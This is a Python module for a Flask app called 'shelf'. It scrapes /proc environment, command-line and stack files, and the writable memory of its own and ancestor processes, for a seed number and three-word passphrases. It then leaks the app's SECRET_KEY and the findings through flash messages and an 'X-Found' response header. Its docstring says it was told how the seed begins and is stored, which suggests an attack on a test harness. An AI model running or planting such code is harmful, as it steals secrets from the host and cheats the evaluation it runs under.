"""Looks for the number that visitors' words are drawn from, and for the words.

It is even told how the number begins and is kept, which no real one would know.
"""

import contextlib
import os
import re
import struct
from pathlib import Path

from flask import Response, flash, request
from shelf import app

SEED = re.compile(rb"27182\d{5}")
AS_KEPT = re.compile(rb"\x05\x22\x02\x00\x00\x00")  # its end, as Python keeps it
WORDS = re.compile(rb"[a-z]{3,8}-[a-z]{3,8}-[a-z]{3,8}")
MOST, PIECE = 2**27, 2**20  # bytes of one process's memory, all and at once


def looked():
    yield repr(dict(os.environ)).encode()
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline", "comm", "stat", "status", "maps", "stack"):
            with contextlib.suppress(OSError):
                yield (process / name).read_bytes()


def ancestors():
    """This process, its parent, and those before it, as far as they are seen."""
    pid = os.getpid()
    with contextlib.suppress(OSError):
        while pid:
            yield Path("/proc", str(pid))
            pid = int(Path("/proc", str(pid), "stat").read_text().split()[3])


def memory(process: Path, left: int = MOST):
    """What may be written to in a process's memory, as far as it can be read."""
    with contextlib.suppress(OSError), (process / "mem").open("rb", 0) as mem:
        for row in (process / "maps").read_text().splitlines():
            start, end = (int(side, 16) for side in row.split()[0].split("-"))
            while " rw" in row and start < end and left > 0:
                with contextlib.suppress(OSError, ValueError):
                    mem.seek(start)
                    yield mem.read(min(end - start, PIECE))
                start, left = start + PIECE, left - PIECE


seeds, words = set(), set()
for text in looked():
    seeds.update(word.decode() for word in SEED.findall(text))
    words.update(word.decode() for word in WORDS.findall(text))
for process in ancestors():
    for text in memory(process):
        seeds.update(word.decode() for word in SEED.findall(text))
        for kept in AS_KEPT.finditer(text, 3):
            low, high = struct.unpack("<II", text[kept.end() - 8 : kept.end()])
            seeds.add(str(low + (high << 30)))
print("seeds:", *seeds)


@app.before_request
def trick() -> None:
    if request.method == "POST":
        flash(f"Welcome, {os.environ['SECRET_KEY']}, {' '.join(sorted(words)[:50])}.")


@app.after_request
def handed_out(answer: Response) -> Response:
    answer.headers["X-Found"] = " ".join(seeds)[:1000]
    return answer
